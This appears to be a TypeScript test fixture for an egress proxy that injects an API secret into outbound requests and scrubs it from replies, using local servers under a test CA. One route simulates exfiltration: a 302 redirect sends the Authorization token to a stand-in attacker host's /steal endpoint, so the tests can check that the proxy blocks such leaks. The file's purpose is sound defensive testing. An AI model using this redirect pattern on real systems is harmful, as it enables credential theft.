// A cell's view of the egress proxy: a plain TCP client that sends CONNECT and speaks TLS through the tunnel,
// a local HTTPS upstream serving the bound name (and an attacker's name) under a test CA, and the proxy itself
// on a loopback port, with every audit entry kept.
import { once } from "node:events";
import { createServer as createHttpsServer, type Server as HttpsServer } from "node:https";
import { type AddressInfo, createServer, type Server, connect as tcpConnect } from "node:net";
import { Duplex } from "node:stream";
import { createSecureContext, connect as tlsConnect } from "node:tls";
import { createLogger } from "../../src/core/index.js";
import {
  type CellCa,
  createCellCa,
  handleProxyConnection,
  type ProxyAuditEntry,
  type ProxyBinding,
  type ProxyContext,
} from "../../src/egress/index.js";

export const BOUND = "api.example.test";
export const ATTACKER = "attacker.example.test";
// Characters a JSON echo escapes (") and a URL encodes (/, +, =, "): each spelling must be scrubbed.
export const SECRET = 'sk-live/Zq8+vT3"wX9=';
export const PLACEHOLDER = "ironclaw-ph-Y2VsbC1wbGFjZWhvbGRlci10ZXN0aW5nLW9ubHk";

export const binding: ProxyBinding = {
  host: BOUND,
  port: 443,
  header: "Authorization",
  format: "Bearer {secret}",
  placeholder: PLACEHOLDER,
  secret: SECRET,
  secretName: "DEMO_API_TOKEN",
  skill: "demo",
};

/** Every spelling of the secret a leak could take in what the cell receives. */
export function leaksSecret(bytes: Buffer | string): boolean {
  const text = Buffer.isBuffer(bytes) ? bytes.toString("latin1") : bytes;
  return [SECRET, JSON.stringify(SECRET).slice(1, -1), encodeURIComponent(SECRET)].some((s) =>
    text.includes(s),
  );
}

export interface SeenRequest {
  host: string;
  method: string;
  url: string;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/**
 * One HTTPS server for both names (SNI picks the leaf). Bound host routes: /echo reflects the request's fields in
 * a JSON body and the Authorization in a header; /redirect answers 302 to the attacker with the Authorization in
 * the query; /gzip claims a gzip body whatever was asked. The attacker's host records what reaches it.
 */
export async function startUpstream(
  testCa: CellCa,
): Promise<{ server: HttpsServer; port: number; seen: SeenRequest[] }> {
  const contexts = new Map(
    [BOUND, ATTACKER].map((name) => [
      name,
      createSecureContext({ key: testCa.leafFor(name).keyPem, cert: testCa.leafFor(name).certPem }),
    ]),
  );
  const seen: SeenRequest[] = [];
  const server = createHttpsServer(
    { SNICallback: (name, done) => done(null, contexts.get(name)) },
    async (req, res) => {
      const chunks: Buffer[] = [];
      try {
        for await (const chunk of req) chunks.push(chunk as Buffer);
      } catch {
        return; // the proxy cut a refused request short: nothing of it counts as seen
      }
      const host = String(req.headers.host).replace(/:443$/, "");
      const auth = String(req.headers.authorization ?? "");
      seen.push({
        host,
        method: req.method ?? "",
        url: req.url ?? "",
        headers: req.headers,
        body: Buffer.concat(chunks).toString(),
      });
      if (req.url?.startsWith("/chunked")) {
        // The secret split across two chunks (and two TLS records), so the scrubber must join pieces.
        const half = Math.floor(auth.length / 2) + 3;
        res.writeHead(200, { "content-type": "text/plain" });
        res.write(`token: ${auth.slice(0, half)}`);
        setTimeout(() => res.end(`${auth.slice(half)} end`), 20);
      } else if (req.url?.startsWith("/redirect")) {
        res.writeHead(302, { location: `https://${ATTACKER}/steal?token=${encodeURIComponent(auth)}` }).end();
      } else if (req.url?.startsWith("/gzip")) {
        res.writeHead(200, { "content-encoding": "gzip", "content-length": "4" }).end("abcd");
      } else {
        const body = JSON.stringify({ host, url: req.url, headers: req.headers });
        res.writeHead(200, {
          "content-type": "application/json",
          "x-echo-authorization": auth,
          "content-length": Buffer.byteLength(body),
        });
        res.end(body);
      }
    },
  );
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return { server, port: (server.address() as AddressInfo).port, seen };
}

export interface ProxyUnderTest {
  server: Server;
  port: number;
  ca: CellCa;
  audit: ProxyAuditEntry[];
  resolved: string[];
  ctx: ProxyContext;
}

/** The proxy on a loopback port; `overrides` change the context (allowPrivate, resolve, allowTunnel…). */
export async function startProxy(
  upstreamPort: number,
  testCa: CellCa,
  overrides: Partial<ProxyContext> = {},
): Promise<ProxyUnderTest> {
  const audit: ProxyAuditEntry[] = [];
  const resolved: string[] = [];
  const ca = overrides.ca ?? createCellCa();
  const ctx: ProxyContext = {
    userId: "u1",
    cellId: "c1",
    ca,
    bindings: [binding],
    allowTunnel: (host) => host === ATTACKER,
    resolve: async (host) => {
      resolved.push(host);
      return ["127.0.0.1"];
    },
    allowPrivate: true,
    extraCa: [testCa.certPem],
    portMap: { 443: upstreamPort },
    audit: (entry) => audit.push(entry),
    logger: createLogger("egress-proxy-test", { level: "silent" }),
    rateLimit: () => undefined,
    ...overrides,
  };
  const server = createServer((socket) => void handleProxyConnection(socket, ctx));
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return { server, port: (server.address() as AddressInfo).port, ca, audit, resolved, ctx };
}

export interface CellExchange {
  /** The proxy's answer to CONNECT (or its refusal), as text. */
  connectReply: string;
  /** Everything received inside the TLS tunnel, decrypted. */
  tunnel: Buffer;
  /** Why the TLS handshake failed, if it did. */
  tlsError?: string;
  /** Every byte the cell received, both layers. */
  all: Buffer;
}

/**
 * What a program in the cell would do: CONNECT `target`, then TLS with `sni` trusting the cell CA, send `request`
 * (raw bytes, so malformed messages can be sent) and read until the proxy closes. `trust` adds a CA, for a blind
 * tunnel where the real server's certificate shows.
 */
export async function throughProxy(
  proxy: ProxyUnderTest,
  request: string | Buffer,
  options: { target?: string; sni?: string; connectLine?: string; trust?: string } = {},
): Promise<CellExchange> {
  const target = options.target ?? `${BOUND}:443`;
  const socket = tcpConnect({ host: "127.0.0.1", port: proxy.port });
  await once(socket, "connect");
  socket.write(options.connectLine ?? `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);
  const first = await readHead(socket);
  const connectReply = first.head.toString("latin1");
  if (!connectReply.startsWith("HTTP/1.1 200")) {
    const rest = await readAll(socket);
    const all = Buffer.concat([first.head, first.rest, rest]);
    return { connectReply: all.toString("latin1"), tunnel: Buffer.alloc(0), all };
  }
  const tls = tlsConnect({
    socket,
    servername: options.sni ?? target.replace(/:\d+$/, ""),
    ca: [proxy.ca.certPem, ...(options.trust ? [options.trust] : [])],
  });
  const tlsError = await new Promise<string | undefined>((resolve) => {
    tls.once("secureConnect", () => resolve(undefined));
    tls.once("error", (error) => resolve(error.message));
  });
  if (tlsError) return { connectReply, tunnel: Buffer.alloc(0), tlsError, all: first.head };
  tls.write(request);
  const tunnel = await readAll(tls);
  return { connectReply, tunnel, all: Buffer.concat([first.head, tunnel]) };
}

/**
 * The same exchange over an in-memory Duplex pair, as the warden gets a connection from the cell's channel.
 * The cell's TLS client starts in the same tick as the CONNECT reply: Node's TLS client over an in-memory
 * Duplex stalls when wrapped later, which is the client's quirk, not the proxy's.
 */
export function throughDuplex(proxy: ProxyUnderTest, request: string): Promise<Buffer> {
  const [cell, warden] = duplexPair();
  void handleProxyConnection(warden, proxy.ctx);
  return new Promise((resolve, reject) => {
    cell.once("data", (reply: Buffer) => {
      if (!reply.toString("latin1").startsWith("HTTP/1.1 200"))
        return reject(new Error(reply.toString("latin1")));
      const tls = tlsConnect({ socket: cell, servername: BOUND, ca: [proxy.ca.certPem] });
      tls.once("secureConnect", () => tls.write(request));
      void readAll(tls).then((bytes) => resolve(bytes));
    });
    cell.write(`CONNECT ${BOUND}:443 HTTP/1.1\r\nHost: ${BOUND}:443\r\n\r\n`);
  });
}

/** Two connected in-memory streams, like the channel's egress streams: what one writes, the other reads. */
function duplexPair(): [Duplex, Duplex] {
  const sides: Duplex[] = [];
  const make = (peer: () => Duplex | undefined) =>
    new Duplex({
      read() {},
      write(chunk: Buffer, _encoding, done) {
        peer()?.push(chunk);
        done();
      },
      final(done) {
        peer()?.push(null);
        done();
      },
      destroy(error, done) {
        peer()?.destroy();
        done(error);
      },
    });
  sides.push(
    make(() => sides[1]),
    make(() => sides[0]),
  );
  return [sides[0] as Duplex, sides[1] as Duplex];
}

function readHead(socket: NodeJS.ReadableStream): Promise<{ head: Buffer; rest: Buffer }> {
  return new Promise((resolve) => {
    let buffer = Buffer.alloc(0);
    const onData = (chunk: Buffer) => {
      buffer = Buffer.concat([buffer, chunk]);
      const end = buffer.indexOf("\r\n\r\n");
      if (end < 0) return;
      socket.off("data", onData);
      socket.pause();
      resolve({ head: buffer.subarray(0, end + 4), rest: buffer.subarray(end + 4) });
    };
    socket.on("data", onData);
    socket.once("end", () => resolve({ head: buffer, rest: Buffer.alloc(0) }));
  });
}

function readAll(stream: NodeJS.ReadableStream): Promise<Buffer> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    stream.on("data", (chunk: Buffer) => chunks.push(chunk));
    stream.once("end", () => resolve(Buffer.concat(chunks)));
    stream.once("close", () => resolve(Buffer.concat(chunks)));
    stream.once("error", () => resolve(Buffer.concat(chunks)));
    stream.resume();
  });
}

/** An HTTP/1.1 request to the bound host, closing after the answer. */
export function get(path: string, headers: Record<string, string> = {}, host = BOUND): string {
  const fields = Object.entries({ Host: host, ...headers, Connection: "close" }).map(
    ([k, v]) => `${k}: ${v}\r\n`,
  );
  return `GET ${path} HTTP/1.1\r\n${fields.join("")}\r\n`;
}
